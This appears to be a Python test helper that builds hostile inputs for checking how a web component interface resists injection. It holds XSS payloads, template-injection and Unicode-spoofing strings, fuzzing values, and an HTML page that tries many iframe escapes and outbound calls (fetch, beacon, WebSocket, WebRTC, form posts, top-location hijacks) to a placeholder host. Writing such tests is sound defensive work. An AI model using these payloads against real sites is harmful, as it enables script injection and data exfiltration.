"""What somebody who can write into the interface would try."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any, cast

from tests.web.showcase import Component

STRUCTURE = {
    "id",
    "component",
    "children",
    "type",
    "variant",
    "state",
    "src",
    "action",
}  # changed elsewhere, not into text


def texts(away: str) -> list[str]:
    """Texts that run or load something wherever they are taken for more than text."""
    return [
        "<script>ran.push('script')</script>",
        f"<img src={away}/img onerror=\"ran.push('onerror')\">",
        "<svg onload=\"ran.push('svg')\"><animate onbegin=\"ran.push('begin')\"/></svg>",
        f'"><iframe src="{away}/frame" srcdoc="<script>parent.ran.push(1)</script>"></iframe>',
        "javascript:ran.push('javascript')",
        f"url({away}/css)",
        f"</style><style>*{{background:url({away}/style)}}",
        f"<link rel=stylesheet href={away}/link><meta http-equiv=refresh content='0;url={away}/meta'>",
        "{{constructor.constructor('ran.push(1)')()}} ${ran.push('template')} {% for x in y %}#{ran.push('x')}",
        "\u202e\u2066gnp.exe\u2069 \ufffe\x00\x1b[31m",
        "__proto__",
    ]


def filled(component: Component, text: str) -> Component:
    """The component with every text in it, and every name, replaced."""

    def change(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            fields = cast(Component, value)
            named = {"name": fields["name"]} if "label" in fields and "name" in fields else {}  # form fields stay apart
            return {name: change(each, name) for name, each in fields.items()} | named
        if isinstance(value, list):
            return [change(each, key) for each in cast(list[Any], value)]
        return text if isinstance(value, str) and key not in STRUCTURE else value

    return {**change(component), "component": component["component"]}


def misshapen(component: Component) -> Iterator[Component]:
    """The component with one property at a time replaced by what it cannot be, or taken away."""
    wrongs: list[Any] = [
        None,
        -1,
        1e308,
        True,
        "",
        [],
        [None],
        {},
        [[[]]],
        {"length": 5},
        "x" * 20_001,
        list(range(600)),
    ]
    for key in component:
        if key in ("id", "component"):
            continue
        for wrong in wrongs:
            yield {**copy.deepcopy(component), key: wrong}
        yield {name: value for name, value in component.items() if name != key}


def frame_attacks(away: str, home: str) -> str:
    """One HTML page that tries every way out of its frame."""
    port = away.rsplit(":", 1)[1]
    return f"""
<base href="{away}/base/"><meta http-equiv="refresh" content="1;url={away}/refresh">
<link rel="stylesheet" href="{away}/sheet"><link rel="dns-prefetch" href="{away}">
<link rel="preconnect" href="{away}"><link rel="prefetch" href="{away}/prefetch">
<style>@import "{away}/import"; body {{ background: url({away}/background) }}
@font-face {{ font-family: f; src: url({away}/font) }} p {{ font-family: f }}</style>
<p style="height: 99999px">words</p><img src="{away}/image" srcset="{away}/set 2x">
<video src="{away}/video" poster="{away}/poster"></video>
<object data="{away}/object"></object><embed src="{away}/embed"><iframe src="{away}/frame"></iframe>
<iframe srcdoc="<script>new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{port}'}}]}})</script>"></iframe>
<form id="f" action="{away}/form" method="post"><input name="a" value="b"></form>
<script src="{away}/script"></script>
<script type="module">import("{away}/module").catch(() => {{}});</script>
<script>
const attempts = {{
  fetch: () => fetch("{away}/fetch"),
  same: () => fetch("{home}"),
  beacon: () => navigator.sendBeacon("{away}/beacon", "x"),
  socket: () => new WebSocket("{away.replace("http", "ws")}/socket"),
  events: () => new EventSource("{away}/events"),
  request: () => {{ const r = new XMLHttpRequest(); r.open("GET", "{away}/xhr"); r.send(); }},
  worker: () => new Worker("{away}/worker"),
  blob: () => new Worker(URL.createObjectURL(new Blob(["fetch('{away}/blob')"]))),
  popup: () => window.open("{away}/popup"),
  form: () => document.getElementById("f").submit(),
  link: () => {{
    const link = Object.assign(document.createElement("a"), {{ href: "{away}/a", ping: "{away}/ping" }});
    document.body.append(link);
    link.click();
  }},
  topwards: () => {{ top.location = "{away}/top"; }},
  parentwards: () => {{ parent.location = "{away}/parent"; }},
  read: () => {{ parent.parent.document.title = "owned"; }},
  ran: () => {{ top.ran.push("frame"); }},
  cookie: () => document.cookie,
  storage: () => localStorage.setItem("a", "b"),
  peer: () => {{
    const p = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{port}" }}] }});
    p.createDataChannel("x");
    return p.createOffer().then((offer) => p.setLocalDescription(offer));
  }},
  nested: () => {{
    const f = document.createElement("iframe");
    f.srcdoc =
      "<script>const p = new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{port}'}}]}});" +
      "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</" + "script>";
    document.body.append(f);
  }},
  written: () => document.write("<iframe srcdoc=\\"<script>new RTCPeerConnection()</" + "script>\\"></iframe>"),
  markup: () => {{
    const host = document.createElement("div");
    host.innerHTML = "<iframe srcdoc='<script>1</" + "script>'></iframe>";
    document.body.append(host);
  }},
  away: () => {{ location = "{away}/away"; }},
  script: () => {{ location = "javascript:top.ran.push(1)"; }},
}};
for (const [name, attempt] of Object.entries(attempts)) {{
  try {{ Promise.resolve(attempt()).catch(() => {{}}); }} catch {{ /* refused */ }}
}}
parent.postMessage({{ kind: "size", height_px: 1e9 }}, "*");
parent.postMessage({{ kind: "act", action: "unasked", value: 1 }}, "*");
top.postMessage({{ kind: "size", height_px: 1e9 }}, "*");
top.postMessage({{ kind: "act", action: "unasked", value: 1 }}, "*");
</script>"""
